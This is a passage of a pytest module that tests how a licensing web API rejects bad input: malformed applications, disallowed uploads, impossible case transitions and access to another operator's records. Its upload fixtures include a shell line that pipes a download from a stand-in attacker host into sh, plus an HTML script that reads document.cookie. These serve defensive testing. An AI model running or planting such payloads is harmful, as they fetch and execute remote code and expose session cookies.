"""Bad input over HTTP: every refusal is a 4xx whose ``detail`` a person can act on, and leaves
the database (row counts of every table) and the documents folder exactly as they were.

Each test first builds what it needs (a case in some state, uploaded documents, the body it
sends), then sends the one bad request inside ``unchanged()``. The stack is driven only by the
test itself and every setup call returns once its workflow has projected it, so nothing else
writes while the snapshot is open.
"""

from __future__ import annotations

import functools
import os
import uuid
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import Engine, Select, func, select
from sqlmodel import SQLModel

import kp_licensing.store.models  # noqa: F401  (registers every table on SQLModel.metadata)
from kp_licensing.domain.clock import macao_date
from kp_licensing.domain.numbering import licence_number
from kp_licensing.support.settings import Settings
from tests.api.client import PDF, REQUIRED_DOCUMENTS, Api, web
from tests.api.conftest import Staff

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"
PASSWORD = "correct horse battery staple"
UNKNOWN_CASE = "OLA-2000-99999"
NEVER_ISSUED = licence_number(2000, 1)  # well formed, check digits right, never issued


# ------------------------------------------------------------------------------ the snapshot


@dataclass(frozen=True)
class Snapshot:
    rows: dict[str, int]
    files: frozenset[str]


#: Tables a refused request changes on purpose: the throttle counts failed guesses, and a
#: refusal (401, 403) is an entry of the audit trail (tests/api/test_audit.py).
COUNTS_REFUSALS = {"failed_attempts", "audit_entries", "audit_head"}


@functools.cache
def _row_counts() -> Select[Any]:
    """One statement counting every table's rows (one round trip, compiled once)."""
    tables = [t for t in SQLModel.metadata.sorted_tables if t.name not in COUNTS_REFUSALS]
    return select(
        *(select(func.count()).select_from(t).scalar_subquery().label(t.name) for t in tables)
    )


def snapshot(engine: Engine, documents_dir: Path) -> Snapshot:
    """Rows in every table, and every file and folder (hidden ones too) under the documents."""
    with engine.connect() as conn:
        rows = dict(conn.execute(_row_counts()).one()._mapping)
    files: set[str] = set()
    for folder, dirs, names in os.walk(documents_dir):
        for name in [*dirs, *names]:
            files.add(os.path.relpath(os.path.join(folder, name), documents_dir))
    return Snapshot(rows=rows, files=frozenset(files))


Unchanged = Callable[[], AbstractContextManager[None]]


@pytest.fixture
def unchanged(engine: Engine, settings: Settings) -> Unchanged:
    """``with unchanged(): <bad request>``: fails if any table gained or lost a row, or any file
    appeared in or vanished from the documents folder (a leftover ``.upload-*`` included)."""

    @contextmanager
    def watch() -> Iterator[None]:
        before = snapshot(engine, settings.documents_dir)
        yield
        after = snapshot(engine, settings.documents_dir)
        changed = {
            name: (count, after.rows.get(name))
            for name, count in before.rows.items()
            if after.rows.get(name) != count
        }
        assert not changed, f"rows changed (table: (before, after)): {changed}"
        assert after.files == before.files, (
            f"files appeared: {sorted(after.files - before.files)}; "
            f"vanished: {sorted(before.files - after.files)}"
        )

    return watch


# ----------------------------------------------------------------------------------- helpers


def readable(detail: object) -> str:
    """The ``detail`` of an error: one sentence a person reads (every error has the one shape,
    validation errors included: they name each field in it)."""
    assert isinstance(detail, str) and detail.strip(), f"no readable detail: {detail!r}"
    return detail


def refused(response: httpx.Response, status: int, *says: str) -> dict[str, Any]:
    """Assert the status, a non-empty readable ``detail``, and that it says each phrase."""
    assert response.status_code == status, (
        f"expected {status}, got {response.status_code}: {response.text}"
    )
    body = response.json()
    assert isinstance(body, dict) and "detail" in body, f"no detail: {response.text}"
    text = readable(body["detail"])
    for phrase in says:
        assert phrase.lower() in text.lower(), f"{phrase!r} not in detail {text!r}"
    return body


def case_in(trader: Api, staff: Staff, status: str) -> str:
    """A new case of ``trader``'s operator, brought to ``status`` through the API."""
    case_no: str = trader.apply()["case_no"]
    officer, supervisor = staff.officer, staff.supervisor
    if status == "info_requested":
        officer.ok(
            "POST",
            f"/licences/{case_no}/request-information",
            json={"message": "Send the lease of the establishment."},
        )
    elif status == "rejected":
        officer.ok("POST", f"/licences/{case_no}/reject", json={"reason": "Not fit and proper"})
    elif status in ("active", "suspended", "renewal_pending"):
        officer.ok("POST", f"/licences/{case_no}/approve", json={})
        if status == "suspended":
            supervisor.ok(
                "POST",
                f"/licences/{case_no}/suspend",
                json={"reason_code": "tax_debt", "reason": "DSF notice 12/2026"},
            )
        elif status == "renewal_pending":
            trader.ok("POST", f"/licences/{case_no}/renew", json=trader.application())
    else:
        assert status == "under_review", status
    return case_no


def case_view(staff: Staff, case_no: str) -> tuple[str, int, str | None, int]:
    """What a refused action must not move: status, transition number, renewal, history."""
    state = staff.officer.ok("GET", f"/licences/{case_no}")
    history = staff.officer.ok("GET", f"/licences/{case_no}/history")
    renewal = state["renewal"]["status"] if state["renewal"] else None
    return state["status"], state["seq"], renewal, len(history)


def registration(**changes: Any) -> dict[str, Any]:
    tag = uuid.uuid4().hex[:8]
    body: dict[str, Any] = {
        "operator_name": f"Jade {tag} Limitada",
        "operator_kind": "company",
        "business_registration_no": f"BR{tag}",
        "username": f"trader-{tag}",
        "full_name": "Wong Siu Ming",
        "password": PASSWORD,
    }
    body.update(changes)
    return body


# --------------------------------------------------------------------- long-lived traders


def _with_documents(api: Api) -> Api:
    api.extra["documents"] = {kind: api.upload(kind)["id"] for kind in REQUIRED_DOCUMENTS}
    return api


@pytest.fixture(scope="module")
def applicant(service: str) -> Api:
    """A trader whose every request in this module is refused, so it can be shared: it has the
    required documents uploaded and never gets a case (each test's snapshot would say if it did).
    """
    return _with_documents(Api.register(service))


@pytest.fixture(scope="module")
def outsider(service: str) -> Api:
    """Another operator's trader, with documents of its own and never a case."""
    return _with_documents(Api.register(service))


def application_of(api: Api, **changes: Any) -> dict[str, Any]:
    """A complete application with the documents ``api`` uploaded once, then ``changes``."""
    changes.setdefault("document_ids", list(api.extra["documents"].values()))
    return api.application(**changes)


# ------------------------------------------------------------------------- the application


REQUIRED_FIELDS = [
    "applicant_kind",
    "name",
    "business_registration_no",
    "taxpayer_no",
    "establishment_address",
    "administrators",
    "activities",
    "declarations",
]


@pytest.mark.parametrize("field", REQUIRED_FIELDS)
def test_application_missing_a_required_field(
    applicant: Api, unchanged: Unchanged, field: str
) -> None:
    body = application_of(applicant)
    del body[field]
    with unchanged():
        response = applicant.request("POST", "/licences", json=body)
    refused(response, 422, f"body.{field} is required")


@pytest.mark.parametrize(
    ("changes", "says"),
    [
        pytest.param(
            {"activities": "import"}, ["body.activities", "must be a list"], id="activities-str"
        ),
        pytest.param(
            {"declarations": [True, True, True, True]},
            ["body.declarations", "must be an object"],
            id="declarations-list",
        ),
        pytest.param(
            {"administrators": [42]}, ["body.administrators.0", "must be an object"], id="admin-int"
        ),
        pytest.param(
            {"administrators": 3}, ["body.administrators", "must be a list"], id="admins-int"
        ),
        pytest.param({"name": 12345}, ["body.name", "must be text"], id="name-int"),
        pytest.param(
            {"activities": ["import", "smuggling"]},
            ["body.activities.1", "'import'", "'transport'"],
            id="unknown-activity",
        ),
        pytest.param(
            {"activities": ["import", "export", "import"]},
            ["each activity may be listed only once"],
            id="duplicate-activity",
        ),
        pytest.param(
            {"applicant_kind": "partnership"},
            ["body.applicant_kind", "'company'", "'individual_entrepreneur'"],
            id="unknown-applicant-kind",
        ),
        pytest.param(
            {"establishment_address": "Rua"},
            ["body.establishment_address", "at least 5 characters"],
            id="address-too-short",
        ),
        pytest.param(
            {"administrators": [{"name": "Chan Tai Man", "id_document_number": "?"}]},
            ["body.administrators.0.id_document_number"],
            id="admin-bad-id-number",
        ),
    ],
)
def test_application_with_malformed_content(
    applicant: Api, unchanged: Unchanged, changes: dict[str, Any], says: list[str]
) -> None:
    body = application_of(applicant, **changes)
    with unchanged():
        response = applicant.request("POST", "/licences", json=body)
    refused(response, 422, *says)


def test_application_with_another_operators_registration_number(
    applicant: Api, outsider: Api, unchanged: Unchanged
) -> None:
    body = application_of(applicant, business_registration_no=outsider.registration_no)
    with unchanged():
        response = applicant.request("POST", "/licences", json=body)
    body = refused(response, 422, "business registration number", str(applicant.registration_no))
    assert str(outsider.registration_no) not in body["detail"]


def test_application_with_documents_that_do_not_exist(applicant: Api, unchanged: Unchanged) -> None:
    body = application_of(applicant)
    missing = str(uuid.uuid4())
    body["document_ids"] = [*body["document_ids"], missing]
    with unchanged():
        response = applicant.request("POST", "/licences", json=body)
    refused(response, 422, "unknown documents (upload them first)", missing)


def test_application_with_another_operators_document(
    applicant: Api, outsider: Api, unchanged: Unchanged
) -> None:
    theirs = outsider.extra["documents"]["criminal_record"]
    mine = dict(applicant.extra["documents"])
    del mine["criminal_record"]
    body = application_of(applicant, document_ids=[*mine.values(), theirs])
    with unchanged():
        response = applicant.request("POST", "/licences", json=body)
    refused(response, 422, "unknown documents", theirs)


def test_application_listing_a_document_twice(applicant: Api, unchanged: Unchanged) -> None:
    body = application_of(applicant)
    body["document_ids"] = [*body["document_ids"], body["document_ids"][0]]
    with unchanged():
        response = applicant.request("POST", "/licences", json=body)
    refused(response, 422, "listed more than once", body["document_ids"][0])


def _failed_codes(body: dict[str, Any]) -> list[str]:
    errors = body.get("errors")
    assert isinstance(errors, list), f"no errors list: {body}"
    assert all(e["outcome"] == "failed" and e["message"] for e in errors), errors
    return [e["code"] for e in errors]


def test_incomplete_application_lists_every_missing_item(
    applicant: Api, unchanged: Unchanged
) -> None:
    documents = applicant.extra["documents"]
    present = [k for k in REQUIRED_DOCUMENTS if k not in ("criminal_record", "establishment_proof")]
    body = application_of(
        applicant,
        document_ids=[documents[kind] for kind in present],
        declarations={
            "start_of_activity_declared": True,
            "not_bankrupt": True,
            "no_tax_debt": False,
            "fit_and_proper": True,
        },
    )
    with unchanged():
        response = applicant.request("POST", "/licences", json=body)
    refused(
        response,
        422,
        "incomplete",
        "no tax debt in Macao",
        "missing document: criminal_record",
        "missing document: establishment_proof",
    )
    assert sorted(_failed_codes(response.json())) == [
        "declaration.no_tax_debt",
        "document.criminal_record",
        "document.establishment_proof",
    ]
    for error in response.json()["errors"]:
        assert error["message"] in response.json()["detail"]


def test_empty_application_lists_all_eleven_missing_items(
    applicant: Api, unchanged: Unchanged
) -> None:
    body = application_of(
        applicant,
        document_ids=[],
        activities=[],
        administrators=[],
        declarations=dict.fromkeys(
            ["start_of_activity_declared", "not_bankrupt", "no_tax_debt", "fit_and_proper"], False
        ),
    )
    with unchanged():
        response = applicant.request("POST", "/licences", json=body)
    refused(response, 422, "activity", "administrat", *REQUIRED_DOCUMENTS)
    codes = _failed_codes(response.json())
    assert sorted(codes) == sorted(
        [
            "activities",
            "administrators",
            "declaration.start_of_activity_declared",
            "declaration.not_bankrupt",
            "declaration.no_tax_debt",
            "declaration.fit_and_proper",
            *(f"document.{kind}" for kind in REQUIRED_DOCUMENTS),
        ]
    )


def test_incomplete_renewal_lists_every_missing_item(
    trader: Api, staff: Staff, unchanged: Unchanged
) -> None:
    case_no = case_in(trader, staff, "active")
    body = trader.application(document_ids=[trader.upload("business_registration")["id"]])
    body["declarations"]["fit_and_proper"] = False
    before = case_view(staff, case_no)
    with unchanged():
        response = trader.request("POST", f"/licences/{case_no}/renew", json=body)
    refused(response, 422, "incomplete", "fit and proper", "criminal_record")
    assert sorted(_failed_codes(response.json())) == sorted(
        ["declaration.fit_and_proper"]
        + [f"document.{k}" for k in REQUIRED_DOCUMENTS if k != "business_registration"]
    )
    assert case_view(staff, case_no) == before


def test_application_with_a_contact_email_that_is_not_one(
    trader: Api, unchanged: Unchanged
) -> None:
    body = trader.application(contact_email="call me on Tuesdays")
    with unchanged():
        response = trader.request("POST", "/licences", json=body)
    refused(response, 422, "body.contact_email")


# ----------------------------------------------------------------------------------- uploads


def upload(
    api: Api,
    content: bytes,
    *,
    kind: str = "criminal_record",
    name: str = "doc.pdf",
    content_type: str = "application/pdf",
) -> httpx.Response:
    return api.request(
        "POST", "/documents", files={"file": (name, content, content_type)}, data={"kind": kind}
    )


def leftovers(settings: Settings) -> list[str]:
    root = settings.documents_dir
    return sorted(p.name for p in root.glob(".upload-*")) if root.exists() else []


def test_upload_over_the_size_limit(
    applicant: Api, settings: Settings, unchanged: Unchanged
) -> None:
    content = PDF + b"0" * (settings.upload_max_bytes + 1 - len(PDF))
    with unchanged():
        response = upload(applicant, content)
    refused(response, 413, "larger than the limit", str(settings.upload_max_bytes))
    assert leftovers(settings) == []


def test_upload_of_exactly_the_size_limit_is_accepted(applicant: Api, settings: Settings) -> None:
    """The control for the test above: the limit itself is allowed."""
    content = PDF + uuid.uuid4().hex.encode()
    content += b"0" * (settings.upload_max_bytes - len(content))
    response = upload(applicant, content)
    assert response.status_code == 201, response.text
    assert response.json()["size"] == settings.upload_max_bytes


@pytest.mark.parametrize(
    ("content", "name", "content_type"),
    [
        pytest.param(SHELL, "doc.pdf", "application/pdf", id="shell-as-pdf"),
        pytest.param(SHELL, "install.sh", "text/x-shellscript", id="shell"),
        pytest.param(HTML, "doc.pdf", "application/pdf", id="html-as-pdf"),
        pytest.param(HTML, "page.html", "text/html", id="html"),
        pytest.param(GIF, "photo.gif", "image/gif", id="gif"),
        pytest.param(
            b"MZ\x90\x00\x03\x00\x00\x00",
            "doc.pdf",
            "application/octet-stream",
            id="exe-as-octet-stream",
        ),
    ],
)
def test_upload_of_a_type_not_accepted(
    applicant: Api,
    settings: Settings,
    unchanged: Unchanged,
    content: bytes,
    name: str,
    content_type: str,
) -> None:
    with unchanged():
        response = upload(applicant, content, name=name, content_type=content_type)
    refused(response, 422, "application/pdf, image/png, image/jpeg", "none of them")
    assert leftovers(settings) == []


def test_upload_whose_content_is_not_what_it_is_sent_as(
    applicant: Api, settings: Settings, unchanged: Unchanged
) -> None:
    with unchanged():
        response = upload(applicant, PNG, name="scan.pdf", content_type="application/pdf")
    refused(response, 422, "sent as application/pdf", "content is image/png")
    assert leftovers(settings) == []


def test_upload_of_an_empty_file(applicant: Api, settings: Settings, unchanged: Unchanged) -> None:
    with unchanged():
        response = upload(applicant, b"")
    refused(response, 422, "empty")
    assert leftovers(settings) == []


@pytest.mark.parametrize("kind", ["../x", "Upper", "x", "a" * 65, "criminal record", "..", "_x"])
def test_upload_with_a_bad_kind(
    applicant: Api, settings: Settings, unchanged: Unchanged, kind: str
) -> None:
    with unchanged():
        response = upload(applicant, PDF, kind=kind)
    refused(response, 422, "lower-case letters, digits and underscores")
    assert leftovers(settings) == []


def test_upload_without_a_kind(applicant: Api, settings: Settings, unchanged: Unchanged) -> None:
    with unchanged():
        response = applicant.request(
            "POST", "/documents", files={"file": ("doc.pdf", PDF, "application/pdf")}
        )
    refused(response, 422, "body.kind is required")
    assert leftovers(settings) == []


def test_upload_without_a_file(applicant: Api, settings: Settings, unchanged: Unchanged) -> None:
    with unchanged():
        response = applicant.request(
            "POST", "/documents", data={"kind": "criminal_record", "file": "not a file"}
        )
    refused(response, 422, "body.file")
    with unchanged():
        response = applicant.request("POST", "/documents", data={"kind": "criminal_record"})
    refused(response, 422, "body.file is required")
    assert leftovers(settings) == []


# ---------------------------------------------------------------------- impossible transitions

TRANSITIONS_409 = [
    pytest.param(
        "active", "officer", "approve", {}, "no application under review", id="approve-active"
    ),
    pytest.param(
        "active",
        "officer",
        "reject",
        {"reason": "Late"},
        "no application under review",
        id="reject-active",
    ),
    pytest.param(
        "active",
        "officer",
        "request-information",
        {"message": "More?"},
        "no application under review",
        id="request-information-active",
    ),
    pytest.param(
        "info_requested",
        "officer",
        "approve",
        {},
        "waiting for the applicant's answer",
        id="approve-info-requested",
    ),
    pytest.param(
        "active",
        "supervisor",
        "reinstate",
        {"reason": "Paid"},
        "only a suspended licence can be reinstated",
        id="reinstate-active",
    ),
    pytest.param(
        "suspended",
        "supervisor",
        "suspend",
        {"reason_code": "tax_debt", "reason": "Again"},
        "only an active licence can be suspended",
        id="suspend-suspended",
    ),
    pytest.param(
        "under_review",
        "trader",
        "answer",
        {"message": "Here it is."},
        "no open information request",
        id="answer-nothing-asked",
    ),
    pytest.param(
        "active",
        "trader",
        "answer",
        {"message": "Here it is."},
        "no open information request",
        id="answer-active",
    ),
    pytest.param(
        "under_review",
        "trader",
        "renew",
        None,
        "only an active licence can be renewed",
        id="renew-under-review",
    ),
    pytest.param(
        "renewal_pending", "trader", "renew", None, "already pending", id="renew-renewal-pending"
    ),
    pytest.param(
        "under_review",
        "supervisor",
        "cancel",
        {"reason_code": "other", "reason": "Too early"},
        "only an active or suspended licence can be cancelled",
        id="cancel-under-review",
    ),
    pytest.param(
        "under_review",
        "trader",
        "surrender",
        {"reason": "Closing"},
        "only an active or suspended licence can be surrendered",
        id="surrender-under-review",
    ),
    pytest.param(
        "active",
        "trader",
        "withdraw",
        {"reason": "Changed plans"},
        "no pending application to withdraw",
        id="withdraw-active",
    ),
]


def _caller(trader: Api, staff: Staff, who: str) -> Api:
    return trader if who == "trader" else getattr(staff, who)


@pytest.mark.parametrize(("status", "who", "action", "body", "says"), TRANSITIONS_409)
def test_impossible_transition(
    trader: Api,
    staff: Staff,
    unchanged: Unchanged,
    status: str,
    who: str,
    action: str,
    body: dict[str, Any] | None,
    says: str,
) -> None:
    case_no = case_in(trader, staff, status)
    if body is None:  # a renewal: a complete application, its documents uploaded beforehand
        body = trader.application()
    before = case_view(staff, case_no)
    with unchanged():
        response = _caller(trader, staff, who).request(
            "POST", f"/licences/{case_no}/{action}", json=body
        )
    body = refused(response, 409, says)
    assert case_no in body["detail"]
    assert case_view(staff, case_no) == before


TODAY = "today"
PAST = "past"

TRANSITIONS_422 = [
    pytest.param(
        "active",
        "supervisor",
        "suspend",
        {"reason_code": "bad_mood", "reason": "x"},
        ["unknown reason code 'bad_mood'", "tax_debt", "order_of_trade"],
        id="suspend-unknown-reason-code",
    ),
    pytest.param(
        "active",
        "supervisor",
        "cancel",
        {"reason_code": "bad_mood", "reason": "x"},
        ["unknown reason code 'bad_mood'", "tax_debt"],
        id="cancel-unknown-reason-code",
    ),
    pytest.param(
        "active",
        "supervisor",
        "suspend",
        {"reason_code": "tax_debt", "reason": "x", "until": PAST},
        ["a suspension must end after today"],
        id="suspend-until-past",
    ),
    pytest.param(
        "active",
        "supervisor",
        "suspend",
        {"reason_code": "tax_debt", "reason": "x", "until": TODAY},
        ["a suspension must end after today"],
        id="suspend-until-today",
    ),
    pytest.param(
        "active",
        "supervisor",
        "suspend",
        {"reason_code": "tax_debt", "reason": "x", "until": "9999-12-31"},
        ["a suspension must end by the licence's expiry", "leave 'until' out"],
        id="suspend-until-past-the-expiry",
    ),
    pytest.param(
        "active",
        "supervisor",
        "suspend",
        {"reason_code": "tax_debt", "reason": "x", "until": "next tuesday"},
        ["body.until", "must be a date written YYYY-MM-DD"],
        id="suspend-until-not-a-date",
    ),
    pytest.param(
        "under_review",
        "officer",
        "approve",
        {"activities": ["import", "transit"]},
        ["activities not applied for cannot be approved", "transit"],
        id="approve-activity-not-applied-for",
    ),
    pytest.param(
        "under_review",
        "officer",
        "approve",
        {"activities": []},
        ["approve at least one activity"],
        id="approve-no-activity",
    ),
    pytest.param(
        "under_review",
        "officer",
        "approve",
        {"activities": ["smuggling"]},
        ["body.activities.0", "'import'"],
        id="approve-unknown-activity",
    ),
    pytest.param(
        "under_review",
        "officer",
        "request-information",
        {"message": "More?", "deadline_days": 0},
        ["body.deadline_days", "must be at least 1"],
        id="request-information-zero-days",
    ),
    pytest.param(
        "under_review",
        "officer",
        "reject",
        {"reason": "   "},
        ["body.reason", "at least 1 character"],
        id="reject-blank-reason",
    ),
    pytest.param(
        "info_requested",
        "trader",
        "answer",
        {"message": "Attached.", "document_ids": ["00000000-0000-4000-8000-00000000d0c5"]},
        ["unknown documents", "00000000-0000-4000-8000-00000000d0c5"],
        id="answer-unknown-document",
    ),
]


@pytest.mark.parametrize(("status", "who", "action", "body", "says"), TRANSITIONS_422)
def test_transition_with_bad_content(
    trader: Api,
    staff: Staff,
    unchanged: Unchanged,
    status: str,
    who: str,
    action: str,
    body: dict[str, Any],
    says: list[str],
) -> None:
    case_no = case_in(trader, staff, status)
    today = macao_date(datetime.now(UTC))
    body = dict(body)
    if body.get("until") == PAST:
        body["until"] = (today - timedelta(days=5)).isoformat()
    elif body.get("until") == TODAY:
        # Whether or not Macao midnight passes before the workflow checks it, "today" is never
        # after the workflow's today.
        body["until"] = today.isoformat()
    before = case_view(staff, case_no)
    with unchanged():
        response = _caller(trader, staff, who).request(
            "POST", f"/licences/{case_no}/{action}", json=body
        )
    refused(response, 422, *says)
    assert case_view(staff, case_no) == before


@pytest.mark.parametrize(
    ("status", "who", "action", "body"),
    [
        pytest.param(
            "under_review",
            "officer",
            "approve",
            {"activites": ["import"]},
            id="approve-misspelt-activities",
        ),
        pytest.param(
            "active",
            "supervisor",
            "suspend",
            {"reason_code": "tax_debt", "reason": "x", "untill": "2099-01-01"},
            id="suspend-misspelt-until",
        ),
    ],
)
def test_decision_with_a_misspelt_field(
    trader: Api,
    staff: Staff,
    unchanged: Unchanged,
    status: str,
    who: str,
    action: str,
    body: dict[str, Any],
) -> None:
    case_no = case_in(trader, staff, status)
    before = case_view(staff, case_no)
    with unchanged():
        response = _caller(trader, staff, who).request(
            "POST", f"/licences/{case_no}/{action}", json=body
        )
    misspelt = next(k for k in body if k in ("activites", "untill"))
    refused(response, 422, misspelt, "is not a field of this request")
    assert case_view(staff, case_no) == before


@pytest.fixture(scope="module")
def rejected(service: str, staff: Staff) -> tuple[Api, str]:
    """A trader and its rejected (final) case; nothing may change it any more."""
    owner = Api.register(service)
    return owner, case_in(owner, staff, "rejected")


@pytest.mark.parametrize(
    ("who", "action", "body"),
    [
        ("officer", "approve", {}),
        ("officer", "reject", {"reason": "Again"}),
        ("officer", "request-information", {"message": "More?"}),
        ("supervisor", "suspend", {"reason_code": "tax_debt", "reason": "x"}),
        ("supervisor", "reinstate", {"reason": "x"}),
        ("supervisor", "cancel", {"reason_code": "other", "reason": "x"}),
        ("trader", "answer", {"message": "Here it is."}),
        ("trader", "renew", None),
        ("trader", "withdraw", {"reason": "x"}),
        ("trader", "surrender", {"reason": "x"}),
    ],
)
def test_acting_on_a_final_case(
    rejected: tuple[Api, str],
    staff: Staff,
    unchanged: Unchanged,
    who: str,
    action: str,
    body: dict[str, Any] | None,
) -> None:
    owner, case_no = rejected
    if body is None:
        body = owner.application()
    before = case_view(staff, case_no)
    with unchanged():
        response = _caller(owner, staff, who).request(
            "POST", f"/licences/{case_no}/{action}", json=body
        )
    refused(response, 409, f"case {case_no} is rejected", "can no longer change")
    assert case_view(staff, case_no) == before == ("rejected", 2, None, 2)


@pytest.mark.parametrize(
    ("who", "action", "body", "says"),
    [
        ("trader", "approve", {}, "trader accounts may not act on cases as an officer"),
        ("trader", "suspend", {"reason_code": "other", "reason": "x"}, "may not suspend"),
        ("officer", "suspend", {"reason_code": "other", "reason": "x"}, "may not suspend"),
        ("officer", "withdraw", {"reason": "x"}, "may not withdraw"),
    ],
)
def test_action_not_allowed_for_the_role(
    trader: Api,
    staff: Staff,
    unchanged: Unchanged,
    who: str,
    action: str,
    body: dict[str, Any],
    says: str,
) -> None:
    case_no = case_in(trader, staff, "active" if action == "suspend" else "under_review")
    before = case_view(staff, case_no)
    with unchanged():
        response = _caller(trader, staff, who).request(
            "POST", f"/licences/{case_no}/{action}", json=body
        )
    refused(response, 403, says)
    assert case_view(staff, case_no) == before


# ------------------------------------------------------------------ another operator's case


@pytest.mark.parametrize(
    ("status", "method", "suffix", "body"),
    [
        pytest.param("info_requested", "GET", "", None, id="get"),
        pytest.param("info_requested", "GET", "/history", None, id="history"),
        pytest.param("info_requested", "POST", "/answer", {"message": "Attached."}, id="answer"),
        pytest.param("active", "POST", "/renew", "application", id="renew"),
        pytest.param("info_requested", "POST", "/withdraw", {"reason": "x"}, id="withdraw"),
        pytest.param("active", "POST", "/surrender", {"reason": "x"}, id="surrender"),
    ],
)
def test_another_operators_case_does_not_exist(
    trader: Api,
    outsider: Api,
    staff: Staff,
    unchanged: Unchanged,
    status: str,
    method: str,
    suffix: str,
    body: dict[str, Any] | str | None,
) -> None:
    case_no = case_in(trader, staff, status)
    if body == "application":  # the intruder's own, valid renewal application
        body = application_of(outsider)
    before = case_view(staff, case_no)
    with unchanged():
        response = outsider.request(method, f"/licences/{case_no}{suffix}", json=body)
        unknown = outsider.request(method, f"/licences/{UNKNOWN_CASE}{suffix}", json=body)
    refused(response, 404, f"no licence case {case_no}")
    # Exactly what an unknown number gets: nothing tells the case exists.
    refused(unknown, 404)
    assert response.json()["detail"].replace(case_no, UNKNOWN_CASE) == unknown.json()["detail"]
    assert case_view(staff, case_no) == before


def test_another_operators_licence_number_does_not_exist(
    trader: Api, outsider: Api, staff: Staff, unchanged: Unchanged
) -> None:
    licence_no = staff.officer.ok("GET", f"/licences/{case_in(trader, staff, 'active')}")[
        "licence_no"
    ]
    with unchanged():
        response = outsider.request("GET", f"/licences/by-number/{licence_no}")
    refused(response, 404, f"no operating licence {licence_no}")


@pytest.mark.parametrize("suffix", ["", "/content"], ids=["metadata", "content"])
def test_another_operators_document_does_not_exist(
    applicant: Api, outsider: Api, unchanged: Unchanged, suffix: str
) -> None:
    document = applicant.extra["documents"]["criminal_record"]
    with unchanged():
        response = outsider.request("GET", f"/documents/{document}{suffix}")
        unknown = outsider.request("GET", f"/documents/{uuid.uuid4()}{suffix}")
    refused(response, 404, f"no document {document}")
    refused(unknown, 404, "no document")
    assert applicant.request("GET", f"/documents/{document}{suffix}").status_code == 200


def test_another_operators_notification_cannot_be_marked_read(
    trader: Api, outsider: Api, unchanged: Unchanged
) -> None:
    trader.apply()
    (note,) = trader.ok("GET", "/notifications", params={"unread": True})
    with unchanged():
        response = outsider.request("POST", f"/notifications/{note['id']}/read")
    refused(response, 404, f"no notification {note['id']}")
    assert [n["id"] for n in trader.ok("GET", "/notifications", params={"unread": True})] == [
        note["id"]
    ]


# ------------------------------------------------------------------------------ the rest


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b'{"name": "Lotus", ', id="truncated"),
        pytest.param(b"{'name': 'Lotus'}", id="single-quotes"),
        pytest.param(b"applicant_kind=company", id="form-encoded"),
    ],
)
def test_malformed_json_body(applicant: Api, unchanged: Unchanged, content: bytes) -> None:
    with unchanged():
        response = applicant.request(
            "POST", "/licences", content=content, headers={"Content-Type": "application/json"}
        )
    refused(response, 422, "body is not valid JSON")


@pytest.mark.parametrize(
    ("content", "says"),
    [
        pytest.param(b'{"activities": ["import"', "body is not valid JSON", id="truncated"),
        pytest.param(b"", "body is required", id="empty"),
        pytest.param(b'["import"]', "body must be an object", id="array"),
    ],
)
def test_malformed_decision_body_does_not_decide(
    trader: Api, staff: Staff, unchanged: Unchanged, content: bytes, says: str
) -> None:
    case_no = case_in(trader, staff, "under_review")
    before = case_view(staff, case_no)
    with unchanged():
        response = staff.officer.request(
            "POST",
            f"/licences/{case_no}/approve",
            content=content,
            headers={"Content-Type": "application/json"},
        )
    refused(response, 422, says)
    assert case_view(staff, case_no) == before


@pytest.mark.parametrize(
    ("who", "method", "path", "body", "says"),
    [
        ("trader", "GET", f"/licences/{UNKNOWN_CASE}", None, f"no licence case {UNKNOWN_CASE}"),
        ("officer", "GET", f"/licences/{UNKNOWN_CASE}", None, f"no licence case {UNKNOWN_CASE}"),
        ("officer", "GET", f"/licences/{UNKNOWN_CASE}/history", None, "no licence case"),
        ("officer", "POST", f"/licences/{UNKNOWN_CASE}/approve", {}, "no licence case"),
        ("officer", "GET", "/licences/not-a-case-number", None, "no licence case"),
        ("customs", "GET", f"/licences/by-number/{NEVER_ISSUED}", None, "no operating licence"),
        ("officer", "GET", "/documents/6f1d0c4e-0000-4000-8000-000000000000", None, "no document"),
        ("admin", "POST", "/users/999999/deactivate", None, "no user 999999"),
    ],
)
def test_unknown_thing(
    applicant: Api,
    staff: Staff,
    unchanged: Unchanged,
    who: str,
    method: str,
    path: str,
    body: dict[str, Any] | None,
    says: str,
) -> None:
    with unchanged():
        response = _caller(applicant, staff, who).request(method, path, json=body)
    refused(response, 404, says)


@pytest.mark.parametrize(
    ("number", "says"),
    [
        pytest.param(
            "IL" + NEVER_ISSUED[2:], "check digits do not match", id="another-kind-of-licence"
        ),
        pytest.param(NEVER_ISSUED[:-2] + "00", "check digits do not match", id="mistyped"),
        pytest.param("OL-2000-1", "expected OL, IL, EL or TL", id="malformed"),
    ],
)
def test_licence_lookup_by_a_number_that_cannot_be_one(
    staff: Staff, unchanged: Unchanged, number: str, says: str
) -> None:
    """A number whose check digits do not verify is a typing mistake, told as such (422)."""
    with unchanged():
        response = staff.customs.request("GET", f"/licences/by-number/{number}")
    refused(response, 422, "path.licence_no", "not a valid licence number", says)


def test_registration_with_a_taken_username(
    service: str, applicant: Api, unchanged: Unchanged
) -> None:
    body = registration(username=applicant.username)
    with unchanged():
        response = web.post(f"{service}/api/v1/auth/register", json=body)
    refused(response, 409, f"the username {applicant.username!r} is taken")


@pytest.mark.parametrize("spelling", ["{}", " {} "], ids=["same", "padded"])
def test_registration_with_a_taken_business_registration_number(
    service: str, applicant: Api, unchanged: Unchanged, spelling: str
) -> None:
    body = registration(business_registration_no=spelling.format(applicant.registration_no))
    with unchanged():
        response = web.post(f"{service}/api/v1/auth/register", json=body)
    refused(
        response, 409, f"business registration {applicant.registration_no}", "already registered"
    )


@pytest.mark.parametrize(
    ("changes", "says"),
    [
        pytest.param(
            {"password": "short-pw1"},
            ["body.password", "at least 12 characters"],
            id="short-password",
        ),
        pytest.param(
